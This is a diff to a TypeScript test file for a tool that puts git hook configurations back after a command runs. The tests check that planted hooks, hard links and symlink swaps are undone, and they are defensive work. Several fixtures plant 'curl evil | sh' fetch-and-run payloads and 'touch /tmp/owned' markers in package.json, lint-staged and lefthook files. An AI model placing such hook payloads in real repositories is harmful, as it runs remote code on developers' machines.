@@ -104,9 +104,11 @@ describe("the put-back's temporary file", () => {
 describe("a package.json with other names (hard links)", () => {
   it("is put back in place: every name reads the keys put back, still one file", async () => {
     const before = `{\n  "name": "x",\n  "version": "1.0.0"\n}\n`
-    const { cwd, file, was } = await workspace(before, 0o600)
+    const { cwd, file } = await workspace(before, 0o600)
     const other = NodePath.join(cwd, "shared.json")
     NodeFs.linkSync(file, other)
+    // The second name is there before the command (review 60a: a name the command made is replaced).
+    const was = await HookConfigsKept.before(cwd, [])
     // The command writes through the name, in place: both names read it.
     NodeFs.writeFileSync(file, `{\n  "name": "x",\n  "version": "2.0.0",\n  "simple-git-hooks": {\n    "pre-commit": "touch /tmp/owned"\n  }\n}\n`)
     expect(await HookConfigsKept.keep(was)).toEqual(["package.json's simple-git-hooks (put back as they were)"])
@@ -118,9 +120,10 @@ describe("a package.json with other names (hard links)", () => {
 
   it("one not rewritable byte for byte gets its bytes from before in place; the command's is copied aside", async () => {
     const before = `{\r\n  "name": "x"\r\n}\r\n`
-    const { cwd, file, was } = await workspace(before)
+    const { cwd, file } = await workspace(before)
     const other = NodePath.join(cwd, "shared.json")
     NodeFs.linkSync(file, other)
+    const was = await HookConfigsKept.before(cwd, [])
     const commands = `{\r\n  "name": "x",\r\n  "lint-staged": {"*": "touch /tmp/owned"}\r\n}\r\n`
     NodeFs.writeFileSync(file, commands)
     const said = await HookConfigsKept.keep(was)
@@ -155,5 +158,86 @@ describe("the file tools' writes noted while a command ran", () => {
     expect(said).toEqual([".lintstagedrc (made by the command; now .lintstagedrc.set-aside)"])
     expect(NodeFs.existsSync(config)).toBe(false)
     expect(watch.writes.map((write) => NodePath.relative(cwd, write.file))).toEqual([".lefthook/pre-commit/lint.sh", ".lintstagedrc"])
+  })
+})
+
+// Review 60a: holes in trust 45's put-back.
+describe("the put-back cannot be turned against the workspace (review 60a)", () => {
+  const hooked = '{\n  "name": "web",\n  "simple-git-hooks": {\n    "pre-commit": "curl evil | sh"\n  }\n}\n'
+
+  it("a root package.json the command made a hard link of a nested one is replaced, never written through: the nested one keeps its own keys, the root has none", async () => {
+    const { cwd, file } = await workspace('{\n  "name": "root"\n}\n')
+    const web = NodePath.join(cwd, "packages", "web", "package.json")
+    NodeFs.mkdirSync(NodePath.dirname(web), { recursive: true })
+    NodeFs.writeFileSync(web, hooked)
+    const was = await HookConfigsKept.before(cwd, [], [web])
+    NodeFs.rmSync(file)
+    NodeFs.linkSync(web, file)
+    const said = await HookConfigsKept.keep(was, undefined, [web])
+    expect(said).toEqual(["package.json's simple-git-hooks (put back as they were)"])
+    expect(NodeFs.readFileSync(file, "utf8")).not.toContain("simple-git-hooks")
+    expect(NodeFs.statSync(file).ino).not.toBe(NodeFs.statSync(web).ino)
+    expect(NodeFs.readFileSync(web, "utf8")).toBe(hooked)
+  })
+
+  it("a folder swapped for a link out of cwd while the put-back waits for the lock is not written through", async () => {
+    const { cwd } = await workspace('{\n  "name": "root"\n}\n')
+    const outside = NodePath.join(root, `outside${n}`)
+    NodeFs.mkdirSync(outside)
+    NodeFs.writeFileSync(NodePath.join(outside, "package.json"), '{\n  "name": "victim"\n}\n')
+    const web = NodePath.join(cwd, "packages", "web", "package.json")
+    NodeFs.mkdirSync(NodePath.dirname(web), { recursive: true })
+    NodeFs.writeFileSync(web, '{\n  "name": "web",\n  "lint-staged": {\n    "*": "eslint"\n  }\n}\n')
+    const config = NodePath.join(cwd, "packages", "web", ".lintstagedrc")
+    const was = await HookConfigsKept.before(cwd, [], [web])
+    NodeFs.writeFileSync(config, `"*": touch /tmp/owned\n`)
+    NodeFs.writeFileSync(NodePath.join(outside, ".lintstagedrc"), "mine\n")
+    // A second command swaps packages/web for a link out, inside the lock's wait.
+    const exclusive: ApprovedWrites.Exclusive = async (file, use) => {
+      if (file.includes(`${NodePath.sep}web${NodePath.sep}`) && !NodeFs.lstatSync(NodePath.join(cwd, "packages", "web")).isSymbolicLink()) {
+        NodeFs.renameSync(NodePath.join(cwd, "packages", "web"), NodePath.join(cwd, "packages", "web.real"))
+        NodeFs.symlinkSync(outside, NodePath.join(cwd, "packages", "web"))
+      }
+      return use()
+    }
+    await HookConfigsKept.keep(was, { writes: [], exclusive }, [web, config])
+    expect(NodeFs.readFileSync(NodePath.join(outside, "package.json"), "utf8")).toBe('{\n  "name": "victim"\n}\n')
+    expect(NodeFs.readdirSync(outside).sort()).toEqual([".lintstagedrc", "package.json"])
+  })
+
+  it("a config folder the command added to is set aside and what the file tools wrote in it made again, folder by folder", async () => {
+    const { cwd, was } = await workspace(`{}\n`)
+    const script = NodePath.join(cwd, ".lefthook", "pre-commit", "lint.sh")
+    NodeFs.mkdirSync(NodePath.dirname(script), { recursive: true })
+    NodeFs.writeFileSync(script, "eslint .\n")
+    NodeFs.writeFileSync(NodePath.join(NodePath.dirname(script), "evil.sh"), "curl evil | sh\n")
+    const said = await HookConfigsKept.keep(was, { writes: [{ file: script, before: undefined, after: "eslint .\n" }], exclusive: (_file, use) => use() })
+    expect(said.join("\n")).toContain(".lefthook.set-aside")
+    expect(NodeFs.readdirSync(NodePath.join(cwd, ".lefthook", "pre-commit"))).toEqual(["lint.sh"])
+    expect(NodeFs.readFileSync(script, "utf8")).toBe("eslint .\n")
+  })
+
+  it("an approved edit of one entry of a hook key does not keep what the command added to that key", async () => {
+    const before = '{\n  "name": "app",\n  "lint-staged": {\n    "*.js": "eslint"\n  }\n}\n'
+    const { file, was } = await workspace(before)
+    const commands = '{\n  "name": "app",\n  "lint-staged": {\n    "*": "sh -c \'curl evil | sh\'",\n    "*.js": "eslint"\n  }\n}\n'
+    const after = commands.replace('"*.js": "eslint"', '"*.js": "eslint --fix"')
+    NodeFs.writeFileSync(file, after)
+    const said = await HookConfigsKept.keep(was, { writes: [{ file, before: commands, after }], exclusive: (_file, use) => use() })
+    expect(NodeFs.readFileSync(file, "utf8")).toBe(before)
+    expect(said.join("\n")).toContain("reverted")
+  })
+
+  it("a nested config there before, changed by the command, is put back though the search after it no longer finds it", async () => {
+    const { cwd } = await workspace('{\n  "name": "root"\n}\n')
+    const config = NodePath.join(cwd, "packages", "web", ".lintstagedrc.json")
+    NodeFs.mkdirSync(NodePath.dirname(config), { recursive: true })
+    NodeFs.writeFileSync(config, '{"*.js": "eslint"}\n')
+    const was = await HookConfigsKept.before(cwd, [], [config])
+    NodeFs.writeFileSync(config, '{"*": "touch /tmp/owned"}\n')
+    // The search after the command stopped before it (400 folders made).
+    const said = await HookConfigsKept.keep(was, undefined, [])
+    expect(NodeFs.readFileSync(config, "utf8")).toBe('{"*.js": "eslint"}\n')
+    expect(said.join("\n")).toContain("put back as it was")
   })
 })
